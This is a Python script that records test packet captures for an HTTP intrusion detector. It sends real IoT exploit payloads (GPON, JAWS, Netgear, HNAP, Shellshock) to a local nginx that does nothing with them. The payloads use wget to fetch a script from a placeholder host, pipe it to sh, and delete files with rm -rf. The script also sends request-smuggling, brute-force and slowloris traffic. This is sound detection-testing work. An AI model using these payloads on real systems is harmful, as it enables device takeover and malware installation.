#!/usr/bin/python3
"""Records pcaps/http/*: a real nginx, curl, and requests written by hand where curl would not send them.

    tests/record/http.py [NAME...]     needs root, nginx, curl, tcpdump

Exploit strings go to an nginx that has nothing behind it: it answers 404 and runs none of them."""
import os
import socket
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from net import Net, until  # noqa: E402

OUT = os.path.join(os.path.dirname(os.path.dirname(HERE)), "pcaps")
SERVER, METER, ATTACKER = "10.20.0.1", "10.20.0.11", "10.20.0.66"
SIGNATURE = "bWV0ZXI3hunter2-Very$ecret="
USERS = {"meter": "Zaehler-77-wolke", "admin": "admin"}
CONFIG = """
error_log {dir}/error.log; pid {dir}/nginx.pid; user root; daemon off; worker_processes 1;
events {{ worker_connections 512; }}
http {{
  access_log {dir}/access.log; client_body_temp_path {dir}/body; proxy_temp_path {dir}/proxy; fastcgi_temp_path {dir}/fcgi;
  uwsgi_temp_path {dir}/uwsgi; scgi_temp_path {dir}/scgi; client_header_timeout 60s; client_max_body_size 8m;
  server {{
    listen 80;
    root {dir}/www;
    location /private/ {{ auth_basic "gateway"; auth_basic_user_file {dir}/users; try_files $uri /private/state.json; }}
    location = /login {{ error_page 405 =401 @refused; return 401 "wrong password\\n"; }}
    location @refused {{ return 401 "wrong password\\n"; }}
    location /api/ {{ proxy_pass http://127.0.0.1:81; }}
  }}
  server {{ listen 127.0.0.1:81; location / {{ return 200 "stored\\n"; }} }}
}}
"""


def nginx(net):
    www = os.path.join(net.dir, "www")
    os.makedirs(os.path.join(www, "private"))
    for name, text in (("index.html", "<h1>Gateway</h1>\n"), ("private/state.json", '{"watt": 118}\n'), ("large.bin", "0123456789abcdef" * 8192)):
        with open(os.path.join(www, name), "w", encoding="ascii") as f:
            f.write(text)
    with open(os.path.join(net.dir, "users"), "w", encoding="ascii") as f:
        for user, password in USERS.items():
            hashed = subprocess.run(["openssl", "passwd", "-apr1", password], capture_output=True, text=True, check=True)
            f.write(f"{user}:{hashed.stdout.strip()}\n")
    path = os.path.join(net.dir, "nginx.conf")
    with open(path, "w", encoding="ascii") as f:
        f.write(CONFIG.format(dir=net.dir))
    net.spawn("server", "nginx", "-c", path, "-e", os.path.join(net.dir, "error.log"))
    until("nginx", lambda: "response" in net.run("server", "curl", "-s", "-o", "/dev/null", "-w", "response", "http://127.0.0.1/", check=False))


def curl(net, host, path, *words):
    net.run(host, "curl", "-s", "-o", "/dev/null", *words, f"http://{SERVER}{path}")


def raw(net, host, *requests, pause=0.0):
    """One connection; each request is sent as it stands, answers are read and dropped."""
    with net.inside(host):
        with socket.create_connection((SERVER, 80), timeout=5) as s:
            s.settimeout(0.3)
            for request in requests:
                s.sendall(request)
                time.sleep(pause)
                try:
                    while s.recv(65536):
                        pass
                except OSError:
                    pass


def basic_clear(net):
    curl(net, "meter", "/private/state.json", "-u", "meter:" + USERS["meter"])


def challenge(net):
    curl(net, "meter", "/private/state.json")
    curl(net, "meter", "/", "-H", "Authorization: Bearer 5c1f")


def default_credential(net):
    curl(net, "attacker", "/private/", "-u", "admin:admin")


def default_refused(net):
    curl(net, "attacker", "/private/", "-u", "admin:password")
    curl(net, "attacker", "/private/", "-u", "root:root")
    curl(net, "meter", "/private/", "-u", "meter:" + USERS["meter"])


def hammering(net):
    for i in range(25):
        curl(net, "attacker", "/private/", "-u", f"meter:guess{i}")


def form_hammering(net):
    for i in range(25):
        curl(net, "attacker", "/login", "-d", f"username=admin&password=guess{i}")


def basic_poller(net):
    words = ["-u", "meter:" + USERS["meter"]]
    for _ in range(30):
        curl(net, "meter", "/private/state.json", *words)


def path_scan(net):
    for name in ("admin", "manager/html", "phpmyadmin/", "cgi-bin/luci", "HNAP1/", "setup.cgi", ".env", ".git/config", "backup.zip",
                 "web.config", "goform/", "wp-login.php", "server-status", "actuator/health", "config.xml", "system.ini", "boaform/",
                 "onvif/device_service", "axis-cgi/admin/param.cgi", "stream/video.mjpg", "hudson", "solr/", "console", "owa/"):
        curl(net, "attacker", "/" + name, "-A", "Mozilla/5.0 zgrab/0.x")


def missing_poller(net):
    for _ in range(40):
        curl(net, "meter", "/firmware/latest.sig")


def token_in_url(net):
    curl(net, "meter", "/api/v1/data?device=m7&access_token=9f8e7d6c5b4a3210&watt=118")


def token_in_header(net):
    curl(net, "meter", "/api/v1/data?device=m7&watt=118", "-H", "Authorization: Bearer 9f8e7d6c5b4a3210")


def exploits(net):
    raw(net, "attacker", b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nUser-Agent: Hello, World\r\nContent-Length: 118\r\n\r\n"
        b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://203.0.113.9/gpon+-O+->/tmp/g;sh+/tmp/g&ipv=0")
    raw(net, "attacker", b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 10.20.0.1\r\nUser-Agent: Hello, world\r\n\r\n")
    raw(net, "attacker", b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m.sh&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n")


def exploits_in_headers(net):
    """HNAP (CVE-2015-2051), and Shellshock (CVE-2014-6271) in a cookie, a referer and a header of its own; curl sends them all."""
    hnap = 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget http://203.0.113.9/hnap -O h && sh h`"'
    curl(net, "attacker", "/HNAP1/", "-X", "POST", "-H", hnap)
    for name in ("Cookie", "Referer", "X-Request"):
        curl(net, "attacker", "/cgi-bin/status", "-H", name + ": () { :; }; /bin/sh -c 'wget http://203.0.113.9/s -O- | sh'")


def services(net):
    """HNAP and UPnP as a person's program uses them; braces in headers that define no function."""
    for action in ("http://purenetworks.com/HNAP1/Login", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"):
        curl(net, "meter", "/HNAP1/", "-H", f'SOAPAction: "{action}"', "-H", "Content-Type: text/xml", "-d", "<Envelope/>")
    curl(net, "meter", "/cgi-bin/status", "-H", "Cookie: view=function () { return 1 }", "-H", "X-Template: (){}", "-e", "http://g/?f=() {")


def exploits_encoded(net):
    """Paths of exploits as a filter that compares bytes does not see them. curl leaves them as they are."""
    for path in ("/%47ponForm/diag%5FForm?images/", "/./cgi-bin//nas_sharing.cgi?user=messagebus&passwd=&cmd=15", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
                 "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "/cgi-bin/luci/%3bstok=/%6cocale?form=country&operation=write",
                 "/ping.cgi?host=192.0.2.1%3Bwget%20http://203.0.113.9/m.sh", "/ping.cgi?host=$(curl%20http://203.0.113.9/m.sh)"):
        curl(net, "attacker", path, "--path-as-is", "-g")


def pages_encoded(net):
    for path in ("/caf%C3%A9/%5Findex.html", "/files/a%20b/../c.html", "/search?q=wget%20or%20curl%3F", "/ping.cgi?host=192.0.2.1%3A80", "/a/%2e/b.html",
                 "/redirect?to=%2Fcgi-bin%2Fluci%2F"):
        curl(net, "meter", path, "--path-as-is", "-g")


def admin_pages(net):
    for path in ("/setup.cgi?next_file=status.htm", "/cgi-bin/luci/admin/status", "/shell.html", "/goform/getStatus?wget=1", "/picture.xml"):
        curl(net, "meter", path)


def violations(net):
    raw(net, "attacker", b"POST / HTTP/1.1\r\nHost: g\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG")
    raw(net, "attacker", b"POST / HTTP/1.1\r\nHost: g\r\nContent-Length: 6\r\nContent-Length: 11\r\n\r\nhello world")
    raw(net, "attacker", b"POST /api/x HTTP/1.1\r\nHost: g\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n")
    raw(net, "attacker", b"GET /redirect?to=/%0d%0aSet-Cookie:%20sid=1 HTTP/1.1\r\nHost: g\r\n\r\n")


def unusual_but_legal(net):
    raw(net, "meter", b"POST /api/a HTTP/1.1\r\nHost: g\r\nTransfer-Encoding: chunked\r\n\r\n5;ext=1\r\nhello\r\n0\r\nTrailer: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: g\r\n\r\nGET /large.bin HTTP/1.1\r\nHost: g\r\n\r\nGET / HTTP/1.1\r\nHost: g\r\nConnection: close\r\n\r\n")
    raw(net, "meter", b"GET / HTTP/1.0\r\n\r\n")
    curl(net, "meter", "/", "-I")
    curl(net, "meter", "/api/b", "-H", "Expect: 100-continue", "-d", "x" * 2000)


def framing(net):
    """A length beside chunked coding as curl sends it when told to; the rest by hand: neither curl nor Python's http.client would."""
    curl(net, "attacker", "/api/a", "-H", "Transfer-Encoding: chunked", "-H", "Content-Length: 6", "-d", "G")
    for head in (b"Content-Length: 5\r\nContent-Length: 11", b"Content-Length: 5, 5", b"Content-Length: +5", b"Transfer-Encoding : chunked",
                 b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: xchunked", b"X-Meter: a\0b\r\nContent-Length: 5"):
        raw(net, "attacker", b"POST /api/a HTTP/1.1\r\nHost: g\r\n" + head + b"\r\n\r\nhello")
    raw(net, "attacker", b"GET / HTTP/1.1\r\n Host: g\r\nX-Meter: a\r\n\r\n")
    with net.inside("attacker"):
        with socket.create_connection((SERVER, 80), timeout=5) as s: # the fold in pieces
            for piece in (b"POST /api/a HTTP/1.1\r\nHost: g\r\nTransfer-Enc", b"oding:\r\n", b"\tchunked\r\n\r\n", b"5\r\nhello\r\n0\r\n\r\n"):
                s.sendall(piece)
                time.sleep(0.05)


def framing_legal(net):
    """Headers that look odd and mean one thing: a fold in a header that frames nothing, chunked in capitals, lines again, zeros before a length."""
    for head, body in ((b"X-Meter: a\r\n b\r\nContent-Length: 5", b"hello"), (b"Transfer-Encoding: CHUNKED", b"5\r\nhello\r\n0\r\n\r\n"),
                       (b"X-Meter: a\r\nX-Meter: b\r\nContent-Length: 5", b"hello"), (b"Content-Length: 005", b"hello"),
                       (b"X-Note: a\r\n\tTransfer\r\nTransfer-Encoding: chunked", b"5;q=\"a\"\r\nhello\r\n0\r\n\r\n"), (b"X-Empty:\r\nContent-Length:5", b"hello")):
        raw(net, "meter", b"POST /api/a HTTP/1.1\r\nHost: g\r\n" + head + b"\r\n\r\n" + body)


def shared_access(net):
    """The signature that an Azure IoT hub takes for a password, in a header, a query and an MQTT login; SIGNATURE is one of tests/schema's secrets."""
    net.mosquitto("server")
    token = "SharedAccessSignature sr=plant.azure-devices.example%2Fdevices%2Fm7&sig=" + SIGNATURE + "&se=1795500000"
    where = "/api/devices/m7/messages/events?api-version=2020-03-13"
    curl(net, "meter", where, "-H", "Authorization: " + token, "-d", '{"watt": 118}')
    curl(net, "meter", where + "&sr=plant&sig=" + SIGNATURE + "&se=1795500000", "-d", '{"watt": 118}')
    curl(net, "meter", where, "-e", "http://plant.example/?SharedAccessSignature=" + SIGNATURE, "-d", '{"watt": 118}')
    net.run("meter", "mosquitto_pub", "-h", SERVER, "-i", "m7", "-u", "plant.azure-devices.example/m7/?api-version=2021-04-12", "-P", token, "-t",
            "devices/m7/messages/events/", "-m", '{"watt": 118}')


def no_shared_access(net):
    where = "/api/devices/m7/messages/events?api-version=2020-03-13&signal=-71&sr=plant&se=1795500000&skn=device&design=a"
    curl(net, "meter", where, "-H", "Authorization: SharedAccessSignature sr=plant&sig=" + SIGNATURE + "&se=1795500000", "-d", '{"watt": 118}')


def slowloris(net, tap):
    """25 requests whose headers never end, a line of them every twenty seconds."""
    with net.inside("attacker"):
        held = [socket.create_connection((SERVER, 80), timeout=5) for _ in range(25)]
    for n, s in enumerate(held):
        s.sendall(b"GET /?%d HTTP/1.1\r\nHost: g\r\nAccept: text/html\r\n" % n)
    for n in range(4):
        tap.skip(20)
        for s in held:
            s.sendall(b"X-a%d: b\r\n" % n)
    for s in held:
        s.close()


def slow_upload(net, tap):
    """A device whose link needs a minute for one request, and others that keep idle connections open behind a first one."""
    with net.inside("meter"):
        slow = socket.create_connection((SERVER, 80), timeout=5)
        idle = [socket.create_connection((SERVER, 80), timeout=5) for _ in range(22)]
    slow.sendall(b"POST /api/a HTTP/1.1\r\nHost: g\r\n")
    for s in idle:
        s.sendall(b"GET / HTTP/1.1\r\nHost: g\r\n\r\n")
    for n in range(3):
        tap.skip(20)
        slow.sendall(b"X-%d: b\r\n" % n)
    slow.sendall(b"Content-Length: 2\r\n\r\nok")
    tap.skip(30)
    for s in (slow, *idle):
        s.close()


def telemetry(net):
    for i in range(12):
        curl(net, "meter", "/api/v1/readings", "-H", "Content-Type: application/json", "-d", '{"watt": %d}' % (100 + i))
    curl(net, "meter", "/", "http://10.20.0.1/large.bin", "-o", "/dev/null")
    with open(os.path.join(net.dir, "image"), "wb") as f:
        f.write(bytes(1500000))
    curl(net, "meter", "/api/upload", "--data-binary", "@" + f.name, "-H", "Transfer-Encoding: chunked", "-H", "Content-Type: application/octet-stream")


CAPTURES = {
    "http/http_basic_auth_cleartext-fires": basic_clear, "http/http_basic_auth_cleartext-quiet": challenge,
    "http/http_default_credential-fires": default_credential, "http/http_default_credential-quiet": default_refused,
    "http/http_login_hammering-fires": hammering, "http/http_login_hammering-fires-form": form_hammering,
    "http/http_login_hammering-quiet": basic_poller,
    "http/http_path_scan-fires": path_scan, "http/http_path_scan-quiet": missing_poller,
    "http/http_token_in_url-fires": token_in_url, "http/http_token_in_url-quiet": token_in_header,
    "http/http_iot_exploit-fires": exploits, "http/http_iot_exploit-quiet": admin_pages,
    "http/http_iot_exploit-fires-headers": exploits_in_headers, "http/http_iot_exploit-quiet-headers": services,
    "http/http_iot_exploit-fires-encoded": exploits_encoded, "http/http_iot_exploit-quiet-encoded": pages_encoded,
    "http/http_protocol_violation-fires-framing": framing, "http/http_protocol_violation-quiet-framing": framing_legal,
    "http/http_token_in_url-fires-sas": shared_access, "http/http_token_in_url-quiet-sas": no_shared_access,
    "http/http_protocol_violation-fires": violations, "http/http_protocol_violation-quiet": unusual_but_legal,
    "benign/http_telemetry": telemetry,
    "session/session_slow_dos-fires-http": slowloris, "session/session_slow_dos-quiet-http": slow_upload,
}
ONE_WAY = {"http/http_login_hammering-fires-oneway": ("http/http_login_hammering-fires", f"src host {ATTACKER}")}


def main():
    for name, act in CAPTURES.items():
        if sys.argv[1:] and not any(a in name for a in sys.argv[1:]):
            continue
        with Net(server=SERVER, meter=METER, attacker=ATTACKER) as net:
            nginx(net)
            with net.tap(os.path.join(OUT, name + ".pcap")) as tap:
                act(net, tap) if act in (slowloris, slow_upload) else act(net)
        print(name)
    for name, (of, only) in ONE_WAY.items():
        subprocess.run(["tcpdump", "-n", "-r", os.path.join(OUT, of + ".pcap"), "-w", os.path.join(OUT, name + ".pcap"), only],
                       check=True, stderr=subprocess.DEVNULL)
        print(name)


if __name__ == "__main__":
    main()
